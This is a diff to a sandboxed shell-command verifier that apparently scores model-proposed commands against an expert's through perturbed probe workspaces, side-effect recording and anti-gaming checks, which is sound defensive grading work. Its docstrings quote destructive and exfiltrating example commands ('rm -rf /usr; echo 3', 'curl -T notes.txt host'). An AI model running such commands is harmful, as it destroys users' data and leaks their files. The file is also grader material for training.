@@ -24,19 +24,23 @@ trees (`snapshot_dir`) are equal.
   must still be equal, and stdout, exit codes, effects and files are compared in order.
 - A candidate that times out or passes the output cap scores 0; so does every candidate of a
   turn whose expert command does (the turn cannot be verified: reason says so).
-- Reads and writes, not only output: a candidate that matches is run again on every perturbed
-  copy of the workspace (`pivotrl.verifiers.probes`: contents repeated, near-miss lines, extra
-  files, names the expert does not mention changed, lines reordered; markers from a secret seed
-  per turn) and must match the expert's outcome there too, whether or not the probe changes the
-  expert's outcome. `echo 4` prints what `grep -c apple notes.txt` printed, but not what it
-  prints once the file changes; `grep -c E` counts what `grep -c ERROR` counts only until a line
-  holds an E and no ERROR. A probe on which the expert's own command times out or passes the
-  output cap is skipped (it cannot be verified there).
-- Side effects are part of the action (`pivotrl.sandbox.effects`): what a command changes in
-  HOME or /tmp (both fresh per run, outside /work) and whether it tried the network are
-  compared with the expert's, so `rm -rf ~; echo 3` or `curl -T notes.txt host; grep -c x f`
-  differ from `grep -c x f`. The clock is fixed (`pivotrl.sandbox.clock`): `date` and `ls -l`
-  print the same whenever they run.
+- Reads and writes, not only output: once per turn the expert's command runs on every probe
+  workspace (`pivotrl.verifiers.probes`: files grown and shrunk with lines of their own shapes,
+  names changed, the files it names removed or created, binary files changed; every choice from
+  a secret seed per turn); the probes on which its outcome changes are kept, and a candidate
+  that matches on the original must match the expert's outcome on each of them too. `echo 4`
+  prints what `grep -c apple notes.txt` printed, but not what it prints once the file changes;
+  `grep -c E` counts what `grep -c ERROR` counts only until a line holds an E and no ERROR.
+- A turn on which no probe changes the expert's outcome (or the expert's command times out) is
+  unverifiable: a memorised answer would be paid there. Every candidate but the expert's own
+  command scores 0 with the reason, `unverifiable(turn)` says why, profiling records it and
+  `pivotrl.select` never keeps the turn.
+- Side effects are part of the action (`pivotrl.sandbox.effects`, `pivotrl.sandbox.watch`):
+  what a command changes in HOME and every attempt to write, delete, reach a device, a socket
+  or the network outside the workspace, succeeded or not, are compared with the expert's, so
+  `rm -rf /usr; echo 3` or `curl -T notes.txt host; grep -c x f` differ from `grep -c x f`;
+  /tmp is scratch. The clock is fixed (`pivotrl.sandbox.clock`): `date` and `ls -l` print the
+  same whenever they run.
 - Call vs message: a command where the expert answered with a message, or a message where the
   expert ran a command, scores 0. A fenced block is a message, not a tool call: it matches only
   an expert who also answered in fenced blocks (in a harness that runs them), never an expert
@@ -52,7 +56,6 @@ import json
 import re
 import shlex
 import threading
-import warnings
 from collections import OrderedDict
 from collections.abc import Sequence
 from dataclasses import dataclass, field
@@ -62,12 +65,12 @@ from typing import Any
 from pydantic import BaseModel, ConfigDict, Field
 
 from pivotrl.io.records import Message, Turn, message_text
-from pivotrl.sandbox.bwrap import (SandboxLimits, SandboxUnavailable, attempts_recorded,
-                                  copy_workspace, freeze_mtimes, materialize_workspace,
-                                  remove_workspace, require_sandbox, run_in_sandbox, snapshot_dir,
-                                  workspace_copy)
+from pivotrl.sandbox.bwrap import (SandboxLimits, copy_workspace, freeze_mtimes,
+                                  materialize_workspace, remove_workspace, require_recorded,
+                                  require_sandbox, run_in_sandbox, snapshot_dir, workspace_copy)
 from pivotrl.verifiers.base import Score, score_in_threads
-from pivotrl.verifiers.probes import PROBES, perturb_workspace, probe_seed
+from pivotrl.verifiers.probes import (PROBES, UNVERIFIABLE, perturb_workspace, probe_seed,
+                                     probes_to_compare, writes)
 from pivotrl.verifiers.schema import not_offered, schema_index
 from pivotrl.verifiers.toolcall import ToolcallVerifier
 
@@ -93,7 +96,9 @@ class ShellConfig(BaseModel):
     order_insensitive_lines: bool = Field(
         False, description="Compare stdout as a sorted list of lines (for tasks where order "
                            "is not part of the answer, e.g. `find` output).")
-    compare_exit_code: bool = Field(True, description="Exit codes must be equal.")
+    compare_exit_code: bool = Field(
+        True, description="Exit codes must be equal (0 and 1 count as equal when both printed "
+                          "the same non-empty stdout: grep's 'nothing selected' status).")
     compare_files: bool = Field(True, description="Resulting file trees must be equal.")
     compare_stderr: bool = Field(False, description="Normalised stderr must be equal too.")
     compare_effects: bool = Field(
@@ -107,11 +112,12 @@ class ShellConfig(BaseModel):
                            "that tries harm and fails is then paid like one that does not try. "
                            "Off: the verifier refuses to run there and says why.")
     probes: bool = Field(
-        True, description="Re-run a matching candidate on every perturbed copy of the "
-                          "workspace (pivotrl.verifiers.probes) and require the expert's outcome "
-                          "there too, so a command that only prints the expected output (echo "
-                          "4, a literal file name) or matches by luck (grep -c E for grep -c "
-                          "ERROR) scores 0.")
+        True, description="Re-run a matching candidate on every probe workspace that changes "
+                          "the expert's outcome (pivotrl.verifiers.probes) and require the "
+                          "expert's outcome there too, so a command that only prints the "
+                          "expected output (echo 4, a literal file name) or matches by luck "
+                          "(grep -c E for grep -c ERROR) scores 0; a turn no probe moves is "
+                          "unverifiable. Off: neither.")
     replay_context: bool = Field(
         True, description="Replay the context's shell commands on the workspace before the turn.")
     timeout_s: float = Field(5.0, description="Wall clock per command (SandboxLimits default).")
@@ -262,15 +268,36 @@ class ShellVerifier:
             if expert.problem:
                 return Score(0.0, True, f"expert command {expert.problem}: turn cannot be "
                                         f"verified")
+            if cand.commands == exp.commands:
+                return Score(1.0, True, "")  # the expert's own action
+            probes = self._probe_set(base, exp.commands, probe_seed(key), expert)
+            if probes == []:
+                return Score(0.0, True, UNVERIFIABLE)
             got = self._execute(base, cand.commands)
             if got.problem:
                 return Score(0.0, True, f"candidate command {got.problem}")
-            diff = self._compare(expert, got)
-            if not diff and self.config.probes and cand.commands != exp.commands:
-                diff = self._probe(base, exp.commands, cand.commands, probe_seed(key))
+            diff = self._compare(expert, got) or self._probe(probes or [], cand.commands)
         finally:
             self._release(base)
         return Score(0.0 if diff else 1.0, True, diff)
+
+    def unverifiable(self, turn: Turn) -> str:
+        """Why no candidate can be verified at this turn ("" when it can; module docstring)."""
+        exp = extract_action(turn.expected, self.config)
+        if exp.kind != "commands" or not self.config.probes:
+            return ""
+        try:
+            key = _turn_key(turn)
+            base, expert = self._prepared(turn, exp.commands, key)
+        except ValueError:
+            return ""  # a bad workspace is every sample's invalid score, said there
+        try:
+            if expert.problem:
+                return f"expert command {expert.problem}"
+            return UNVERIFIABLE if not self._probe_set(base, exp.commands, probe_seed(key),
+                                                       expert) else ""
+        finally:
+            self._release(base)
 
     def score_batch(self, turns: Sequence[Turn], actions: Sequence[Message | None]) -> list[Score]:
         return score_in_threads(self, turns, actions, self.config.workers)
@@ -282,14 +309,9 @@ class ShellVerifier:
 
     # ------------------------------------------------------------ probes
 
-    def _probe(self, base: Path, expert_cmds: list[str], cand_cmds: list[str],
-               seed: str) -> str:
-        """"" when the candidate also matches the expert on every perturbed workspace."""
-        for i, name in enumerate(PROBES):
-            probe = self._probe_outcome(base, expert_cmds, i, seed)
-            if probe is None:
-                continue  # the expert's own command cannot be verified there
-            where, exp_i = probe
+    def _probe(self, probes: list[tuple[str, Path, Outcome]], cand_cmds: list[str]) -> str:
+        """"" when the candidate also matches the expert on every probe it is compared on."""
+        for name, where, exp_i in probes:
             got = self._execute(where, cand_cmds)
             if got.problem:
                 return f"on a perturbed workspace ({name}) the candidate {got.problem}"
@@ -299,21 +321,43 @@ class ShellVerifier:
                         f"or write what the expert's does")
         return ""
 
-    def _probe_outcome(self, base: Path, commands: list[str], i: int,
-                       seed: str) -> tuple[Path, Outcome] | None:
-        """(perturbed workspace, expert outcome there), or None when the expert's command
-        times out or passes the output cap there; built once per turn and probe."""
+    def _probe_set(self, base: Path, commands: list[str], seed: str,
+                   expert: Outcome) -> list[tuple[str, Path, Outcome]] | None:
+        """The probes a candidate is compared on (`probes.probes_to_compare`): (name, workspace,
+        expert outcome there); [] when none changes the expert's outcome (unverifiable), None
+        when probes are off. Searched once per turn: the expert runs on every probe."""
+        if not self.config.probes:
+            return None
         with self._lock:
             entry = self._probes.setdefault(base, {"lock": threading.Lock()})
         with entry["lock"]:
-            if i not in entry:
-                where = copy_workspace(base)
-                entry.setdefault("paths", []).append(where)
-                perturb_workspace(where, i, seed, keep="\n".join(commands))
-                freeze_mtimes(where)
-                out = self._execute(where, commands)
-                entry[i] = None if out.problem else (where, out)
-            return entry[i]
+            if "kept" not in entry:
+                results, paths = [], entry.setdefault("paths", [])
+                original = snapshot_dir(base)
+                own = self._moves(original, expert)
+                for i, name in enumerate(PROBES):
+                    where = copy_workspace(base)
+                    results.append((i, False, (name, where, None)))
+                    perturb_workspace(where, i, seed, keep="\n".join(commands))
+                    freeze_mtimes(where)
+                    before = snapshot_dir(where)
+                    if before == original:
+                        continue  # nothing to perturb here (no binary file, say)
+                    out = self._execute(where, commands)
+                    # unverifiable there, or only broken (now writing errors): not used
+                    broke = any(st[2] for st in out.steps) and not any(st[2] for st in expert.steps)
+                    if not (out.problem or broke):
+                        results[-1] = (i, self._moves(before, out) != own, (name, where, out))
+                entry["kept"] = probes_to_compare([r for r in results if r[2][2] is not None])
+                for _, _, (_, where, _) in results:  # keep the workspaces of the probes in use
+                    if any(where is k[1] for k in entry["kept"]):
+                        paths.append(where)
+                    else:
+                        remove_workspace(where)
+            return entry["kept"]
+
+    def _moves(self, before: dict[str, str], out: Outcome) -> tuple:  # steps, files changed
+        return (out.steps, writes(before, out.files) if self.config.compare_files else {})
 
     def _remove(self, base: Path) -> None:
         for where in self._probes.pop(base, {}).get("paths", []):
@@ -325,7 +369,11 @@ class ShellVerifier:
     def _compare(self, exp: Outcome, got: Outcome) -> str:
         for i, ((ec, eo, ee, ex), (cc, co, ce, cx)) in enumerate(zip(exp.steps, got.steps)):
             at = f" (command {i + 1})" if len(exp.steps) > 1 else ""
-            if self.config.compare_exit_code and ec != cc:
+            # 0 against 1 under the same non-empty stdout is grep's "nothing selected" convention
+            # (`grep -c X` prints 0 and exits 1, `grep X | wc -l` prints 0 and exits 0): the
+            # answer is the output both printed. Without output the status is the answer.
+            benign = eo and eo == co and {ec, cc} == {0, 1}
+            if self.config.compare_exit_code and ec != cc and not benign:
                 return f"exit code {cc} != expert's {ec}{at}"
             if eo != co:
                 return f"stdout differs{at}"
@@ -419,17 +467,9 @@ class ShellVerifier:
                 return self._acquire(key)  # type: ignore[return-value]
 
     def _require_recording(self) -> None:
-        if self._recording_checked:
-            return
-        if self.config.compare_effects and not attempts_recorded():
-            if not self.config.allow_unrecorded_effects:
-                raise SandboxUnavailable(
-                    "the shell verifier cannot record attempts outside the workspace here (it "
-                    "needs a C compiler and seccomp user notification, Linux >= 5.9; see "
-                    "`sandbox_limits_in_force()`), so a command that tries harm and fails would "
-                    "be paid; set allow_unrecorded_effects: true to run anyway")
-            warnings.warn("shell verifier: attempts outside the workspace are NOT recorded here "
-                          "(allow_unrecorded_effects)", stacklevel=2)
+        if not self._recording_checked and self.config.compare_effects:
+            require_recorded(allow=self.config.allow_unrecorded_effects, who="the shell verifier",
+                             option="allow_unrecorded_effects: true")
         self._recording_checked = True
 
     def close(self) -> None:
